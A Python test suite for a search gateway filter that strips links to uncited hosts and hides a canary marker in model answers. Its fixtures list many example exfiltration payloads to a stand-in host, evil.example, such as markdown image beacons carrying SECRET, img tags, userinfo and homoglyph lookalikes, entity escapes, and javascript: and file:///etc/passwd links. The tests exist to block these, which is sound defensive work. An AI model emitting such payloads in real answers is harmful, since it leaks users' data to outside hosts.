"""Answers with evidence lead nowhere but to their sources, however a link is written and wherever it is cut."""

import re
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.search.links import REMOVED, CanaryFilter, LinkFilter, OutputFilter, cited_hosts

CITED = {"docs.python.org", "example.com"}
EVIL: dict[str, tuple[str, ...]] = {
    "image": (
        *(
            "![x](https://evil.example/?q=SECRET)",
            "![x](http://evil.example/SECRET.png)",
            "![](//evil.example/SECRET)",
        ),
        *(
            "![x]( https://evil.example/SECRET )",
            "![x](<https://evil.example/SECRET>)",
            "![x](\nhttps://evil.example/S)",
        ),
        *("![x][1]\n\n[1]: https://evil.example/SECRET", "[1]: //evil.example/SECRET", "[1]:\n//evil.example/S"),
    ),
    "html": (
        *(
            "<img src=https://evil.example/SECRET>",
            '<img src="//evil.example/SECRET">',
            "<img src='https:evil.example/S'>",
        ),
        *(
            '<a href="https:/evil.example/S">x</a>',
            '<img src = "\\\\evil.example/S">',
            '<img src="ht\ntps:evil.example/S">',
        ),
        *('<div style="background:url(//evil.example/S)">', "<img srcset='https://evil.example/S 2x'>"),
    ),
    "link": (
        *(
            "[x](https://evil.example/SECRET)",
            "<https://evil.example/SECRET>",
            "<http:evil.example/S>",
            "see https://evil.example/SECRET now",
        ),
        *("HTTPS://EVIL.EXAMPLE/S", "www.evil.example/SECRET", "(www.evil.example)", "ftp://evil.example/S"),
        *("wss://evil.example/S", "https:\\\\evil.example/S", "https://///evil.example/S"),
    ),
    "lookalike": (
        *(
            "https://docs.python.org.evil.example/S",
            "https://example.com.evil.example",
            "https://example.community/S",
        ),
        *("https://evil.example/docs.python.org", "https://xexample.com/S", "https://sub.example.com/S"),
        *("https://docs.py/S", "https://docs.python.or", "https://e\u0445ample.com/S", "https://еvil.example/S"),
    ),
    "userinfo": (
        *(
            "https://example.com@evil.example/S",
            "https://example.com:443@evil.example/S",
            "https://example.com:x@evil.example",
        ),
        *(
            "https://example.com,x@evil.example/S",
            "https://example.com)x@evil.example/",
            "https://example.com;@evil.example",
        ),
        *("https://example.com，x@evil.example", "https://user@evil.example/", "https://@evil.example/"),
    ),
    "escapes": (
        *("[x](https&#58;//evil.example/S)", "[x](h&#116;tps://evil.example)", "[x](https:\\/\\/evil.example)"),
        *("https://example.com\\@evil.example/", "https://example.com&#64;evil.example/", "[x](\\//evil.example)"),
        *(
            "[x](https://example.com%40evil.example/)",
            "https://%65vil.example/",
            "https://[::1]/S",
            "https://127.0.0.1/S",
        ),
    ),
    "scheme": (
        *("[x](javascript:fetch('//evil.example'))", "[x](data:text/html,<script>)", "[x](vbscript:x)"),
        *(
            "<a href='javascript:x'>",
            "[x](mailto:a@evil.example)",
            "[x](file:///etc/passwd)",
            "[x](intent://evil.example)",
        ),
    ),
}
HONEST = (
    *("See https://docs.python.org/3/library/asyncio.html for more.", "[Docs](https://docs.python.org/3/?a=b#c)"),
    *(
        "![logo](https://example.com/logo.png)",
        "<https://example.com>",
        "(https://example.com)",
        "https://example.com.",
    ),
    *(
        "https://example.com, and https://docs.python.org; both",
        "http://example.com:8080/x",
        "HTTPS://Example.COM/Path",
    ),
    *(
        "详见 https://example.com/文档。",
        "Use `a[i](j)` and x //= 2, c: d, a/b, 3.14 and e.g. f(x).",
        "C:\\path\\file",
    ),
    *(
        "def f(src=None, href='x'): # comment // more",
        "[note]: see below",
        "[a](b.html) and [c](#d) and [e](/f/g)",
    ),
    *(
        "https: is a scheme; http:// alone is none",
        "the ratio is 1:2, at 10:30",
        "[S1] is a mark",
        "key=value;a=b",
    ),
    *("An array: a[0](x=1)", "www. is a prefix", "a://", "//"),
)


def filtered(text: str, hosts: set[str] | frozenset[str] = frozenset(CITED), cut: int = 0) -> str:
    """The text through a filter, whole or in pieces of `cut` characters."""
    links = LinkFilter(hosts)
    pieces = [text[i : i + cut] for i in range(0, len(text), cut)] if cut else [text]
    return "".join(map(links.feed, pieces)) + links.close()


def loads(text: str) -> set[str]:
    """The hosts that a generous renderer might reach: every authority, wherever it stands, read like a browser."""
    plain = text.replace("\\", "/")
    found = set()
    begins = r"(?:\b(?:https?|ftp|wss?):/+|[a-z]+://+|[<(=][\"']?(?:https?|ftp|wss?):|(?:\]\(|\]:|(?<![\w(:=.@-])src=)[\s<\"']*//|(?<![\w.@-])www\.(?=\w))"
    for match in re.finditer(begins + r"([^\s/?#<>\"'\[\])]*)", plain, re.IGNORECASE):
        host = (
            unquote(match[1]).rpartition("@")[2].partition(":")[0].lstrip("([{*`|").rstrip("()[]{},;.!*`|").lower()
        )
        if host[:1] in set(",;.!)}"):
            continue  # no name begins so
        if "." in host and not re.search(r"[\^%@ ]", match[1]):
            found.add(host)
    return found


@pytest.mark.parametrize(("kind", "text"), [(kind, one) for kind, many in EVIL.items() for one in many])
def test_no_address_of_another_host_survives(kind: str, text: str) -> None:
    """Nothing of it can load, and what it would have carried is gone; the note stands in its place."""
    shown = filtered(f"Before. {text} After.")
    assert REMOVED in shown
    assert "SECRET" not in shown
    assert loads(shown) <= CITED
    assert shown.startswith("Before. ")
    assert "evil.example/" not in shown


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_and_cited_links_pass_unchanged(text: str) -> None:
    """Code, prose, relative links, and links to the sources."""
    assert filtered(text) == text


@pytest.mark.parametrize("text", [*HONEST, *(one for many in EVIL.values() for one in many)])
@pytest.mark.parametrize("cut", [1, 2, 3, 7])
def test_it_does_not_matter_where_the_stream_is_cut(text: str, cut: int) -> None:
    """Every split gives the same text."""
    assert filtered(text, cut=cut) == filtered(text)


PIECES = (
    *(
        "https",
        ":",
        "//",
        "/",
        "evil.example",
        "example.com",
        "@",
        "\\",
        "](",
        ")",
        " ",
        "[x",
        "www.",
        ".",
        "&#64;",
    ),
    *("src=", '"', "<", "说", "\n", "%40", ",", "?q=", "[1]:", "http:", ";", "'", "!", "{"),
)


@settings(max_examples=2000)
@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_no_mixture_of_pieces_reaches_another_host(pieces: list[str]) -> None:
    """Whatever a model makes of the parts of addresses; and nothing is held back."""
    assert all("evil.example" not in host for host in loads(filtered("".join(pieces)))), filtered("".join(pieces))


@given(st.text(alphabet="abc .,:;!?[]()中文-_*`'\"\n0123456789", max_size=200))
def test_text_without_an_address_is_never_changed(text: str) -> None:
    """No false alarm without a slash."""
    if not re.search(r"\]\(|\]:|www\.", text):
        assert filtered(text) == text


def test_an_answer_that_ends_inside_an_address_ends_with_the_note() -> None:
    """What is only the beginning of a cited host is no cited host."""
    assert filtered("https://docs.py") == f"https://docs.py{REMOVED}"
    assert filtered("https://docs.python.org") == "https://docs.python.org"


def test_chinese_prose_goes_on_behind_an_address() -> None:
    """A removed one takes no sentence with it, a cited one gets a space, so that no host grows out of it."""
    assert filtered("见https://sevil.example/a的说明。好") == f"见https://{REMOVED}的说明。好"
    assert filtered("见https://example.com的说明。") == "见https://example.com 的说明。"


def test_the_hosts_of_sources_and_of_the_question_may_be_named() -> None:
    """A question about an address can be answered with it; documents of the index have no host."""
    hosts = cited_hosts(["https://a.example/x", "doc:guide.md#x"], "What is https://B.example:8080/y?")
    assert hosts == {"a.example", "b.example"}


# --- the marker -------------------------------------------------------------------------------------

CANARY = "7f3a9c2b7f3a1d5e"


@pytest.mark.parametrize("cut", [1, 2, 5, 100])
@pytest.mark.parametrize(
    "text", [CANARY, CANARY.upper(), f"<<<evidence {CANARY}>>>", CANARY * 3, f"7f3a{CANARY}7f3a"]
)
def test_the_marker_never_appears(text: str, cut: int) -> None:
    """Not whole, not in capitals, not behind its own beginning."""
    canary = CanaryFilter(CANARY)
    shown = "".join(canary.feed(text[i : i + cut]) for i in range(0, len(text), cut)) + canary.close()
    assert CANARY not in shown.lower()
    assert CANARY[6:] not in shown.lower()


@given(st.text(alphabet="7f3a9c2b1d5e ", max_size=60))
def test_what_only_begins_like_the_marker_is_given_back(text: str) -> None:
    """No honest digit is lost."""
    canary = CanaryFilter(CANARY)
    shown = "".join(map(canary.feed, text)) + canary.close()
    assert shown == text.replace(CANARY, CANARY[:5]) or CANARY in text


# --- both, and where things ended up ----------------------------------------------------------------


def test_places_move_with_what_was_removed() -> None:
    """A citation behind a removed link covers the same words as before; offsets are bytes."""
    text = "说 https://evil.example/a now. Redis is fast. https://evil.example/b Yes."
    output = OutputFilter({"example.com"}, CANARY)
    shown = (output.feed(text[:20]) + output.feed(text[20:]) + output.close()).encode()
    start, end = (len(text[: text.index(word)].encode()) for word in ("Redis", " https://evil.example/b"))
    assert shown[output.place(start) : output.place(end)].decode() == "Redis is fast."
    assert output.place(0) == 0
    assert output.place(len(text.encode())) == len(shown)


@given(st.text(alphabet="a说:/. h", max_size=40), st.integers(0, 40))
def test_every_place_is_one_between_two_characters(text: str, cut: int) -> None:
    """No offset points into a character or behind the end, and none overtakes another."""
    output = OutputFilter(set(), CANARY)
    shown = (output.feed(text[:cut]) + output.feed(text[cut:])).encode()
    places = [output.place(len(text[:n].encode())) for n in range(len(text) + 1)]
    assert places == sorted(places)
    for place in places:
        shown[:place].decode()
